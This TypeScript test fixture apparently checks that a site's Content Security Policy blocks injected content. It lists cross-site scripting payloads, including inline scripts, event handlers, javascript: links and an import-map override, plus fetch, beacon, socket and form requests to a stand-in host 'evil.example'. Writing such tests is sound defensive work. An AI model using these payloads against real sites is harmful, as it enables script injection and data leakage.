/** A third-party host that must never receive a request. */
export const evil = 'https://evil.example'

/** Leaves a mark that shows that a script ran. */
const mark = (name: string) => `window.hacked=(window.hacked||[]).concat('${name}')`

export type Attack = { name: string; markup: string }

/** Markup injected into a page. Scripts that run leave a mark; whatever loads requests `evil`. */
export const markupAttacks: readonly Attack[] = [
  { name: 'inline script', markup: `<script>${mark('inline')}</script>` },
  { name: 'inline module', markup: `<script type="module">${mark('module')}</script>` },
  { name: 'script from elsewhere', markup: `<script src="${evil}/a.js"></script>` },
  {
    name: 'script as data',
    markup: `<script src="data:text/javascript,${encodeURIComponent(mark('data'))}"></script>`,
  },
  { name: 'picture of this site as a script', markup: '<script src="/media/x.svg"></script>' },
  {
    name: 'import map',
    markup: `<script type="importmap">{"imports":{"a":"${evil}/map.js"}}</script><script type="module">import 'a'</script>`,
  },
  {
    name: 'speculation rules',
    markup: `<script type="speculationrules">{"prefetch":[{"urls":["${evil}/next"],"eagerness":"immediate"}]}</script>`,
  },
  { name: 'event handler', markup: `<img src="/nothing.png" onerror="${mark('onerror')}">` },
  { name: 'event handler that runs by itself', markup: `<details open ontoggle="${mark('ontoggle')}">x</details>` },
  {
    name: 'handler in SVG',
    markup: `<svg onload="${mark('svg')}"><animate onbegin="${mark('animate')}" attributeName="x" dur="1s"/></svg>`,
  },
  { name: 'script in SVG', markup: `<svg><script>${mark('svg script')}</script></svg>` },
  { name: 'javascript: link', markup: `<a id="attack-link" href="javascript:${mark('link')}">x</a>` },
  { name: 'style element', markup: '<style>body{background:rgb(1, 2, 3)!important}</style>' },
  { name: 'style attribute', markup: '<p id="attack-style" style="position:fixed;inset:0">x</p>' },
  { name: 'style sheet from elsewhere', markup: `<link rel="stylesheet" href="${evil}/a.css">` },
  {
    name: 'style sheet as data',
    markup: '<link rel="stylesheet" href="data:text/css,body{background:rgb(1,2,3)!important}">',
  },
  { name: 'picture from elsewhere', markup: `<img src="${evil}/a.png" loading="eager">` },
  { name: 'frame from elsewhere', markup: `<iframe src="${evil}/frame"></iframe>` },
  { name: 'frame of this site', markup: '<iframe src="/install-app/"></iframe>' },
  {
    name: 'frame with its own source',
    markup: `<iframe srcdoc="&lt;script&gt;parent.${mark('srcdoc').slice(7)}&lt;/script&gt;"></iframe>`,
  },
  { name: 'javascript: frame', markup: `<iframe src="javascript:parent.${mark('frame').slice(7)}"></iframe>` },
  { name: 'object', markup: `<object data="${evil}/a.swf"></object>` },
  { name: 'embed', markup: `<embed src="${evil}/a.svg">` },
  {
    name: 'film and sound',
    markup: `<video src="${evil}/a.mp4" autoplay muted></video><audio src="${evil}/a.mp3" autoplay></audio>`,
  },
  {
    name: 'font and import in a style',
    markup: `<style>@import "${evil}/i.css";@font-face{font-family:x;src:url(${evil}/f.woff2)}body{font-family:x}</style>`,
  },
  { name: 'base', markup: `<base href="${evil}/">` },
  {
    name: 'preload',
    markup: `<link rel="preload" as="script" href="${evil}/p.js"><link rel="modulepreload" href="${evil}/m.js">`,
  },
  { name: 'manifest', markup: `<link rel="manifest" href="${evil}/manifest.json">` },
  {
    name: 'policy of their own',
    markup: `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>${mark('second policy')}</script>`,
  },
  {
    name: 'form that sends elsewhere',
    markup: `<form id="attack-form" action="${evil}/form" method="post"><input name="a" value="1"></form>`,
  },
  {
    name: 'form that sends by a javascript: address',
    markup: `<form id="attack-form-script" action="javascript:${mark('form')}"></form>`,
  },
]

/** Expressions that an injected script could try, each of which the browser has to refuse. */
export const scriptAttacks: readonly Attack[] = [
  { name: 'eval', markup: `eval("${mark('eval')}")` },
  { name: 'Function', markup: `new Function("${mark('function')}")()` },
  { name: 'text as a timer', markup: `setTimeout("${mark('timer')}")` },
  { name: 'innerHTML', markup: `document.body.innerHTML = "<img src=x onerror=1>"` },
  { name: 'outerHTML', markup: `document.querySelector('main').outerHTML = "<p>x</p>"` },
  { name: 'insertAdjacentHTML', markup: `document.body.insertAdjacentHTML('beforeend', '<p>x</p>')` },
  { name: 'document.write', markup: `document.write('<p>x</p>')` },
  {
    name: 'text of a script',
    markup: `document.head.append(Object.assign(document.createElement('script'), { text: "${mark('text')}" }))`,
  },
  {
    name: 'address of a script',
    markup: `document.head.append(Object.assign(document.createElement('script'), { src: '${evil}/s.js' }))`,
  },
  { name: 'a policy of their own', markup: `trustedTypes.createPolicy('theirs', { createHTML: (text) => text })` },
  {
    name: 'srcdoc',
    markup: `document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<p>x</p>' }))`,
  },
  { name: 'worker', markup: `new Worker('data:text/javascript,postMessage(1)')` },
  { name: 'fetch', markup: `fetch('${evil}/fetch', { mode: 'no-cors' })` },
  { name: 'beacon', markup: `navigator.sendBeacon('${evil}/beacon', '1')` },
  {
    name: 'socket',
    markup: `new Promise((resolve, reject) => { const socket = new WebSocket('wss://evil.example/'); socket.onerror = reject; socket.onopen = resolve })`,
  },
  {
    name: 'events',
    markup: `new Promise((resolve, reject) => { const source = new EventSource('${evil}/events'); source.onerror = reject; source.onopen = resolve })`,
  },
  { name: 'import', markup: `import('${evil}/i.js')` },
]

/** A script that tries each attack once the page has loaded, and leaves the results in `outcomes`. */
export const attackingScript = `addEventListener('load', async () => {
  const outcomes = {}
  for (const [name, attack] of Object.entries({ ${scriptAttacks.map(({ name, markup }) => `${JSON.stringify(name)}: () => (${markup})`).join(', ')} })) {
    try { await attack(); outcomes[name] = 'done' } catch { outcomes[name] = 'refused' }
  }
  window.outcomes = outcomes
})`
